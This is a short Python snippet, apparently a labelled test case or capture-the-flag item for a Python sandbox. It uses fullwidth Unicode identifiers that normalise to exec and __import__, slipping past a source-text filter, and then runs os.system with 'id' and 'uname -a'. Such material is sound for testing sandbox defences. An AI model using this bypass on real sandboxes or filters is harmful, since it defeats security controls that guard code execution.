# expect: introspection; fullwidth letters in identifiers normalise (NFKC) to exec and __import__, dodging text filters
# the jail greps the source for "exec" and "import" before running it
ｅｘｅｃ("__import__('os').system('id')")

ｍｏｄ = __ｉｍｐｏｒｔ__("os")
ｍｏｄ.system("uname -a")
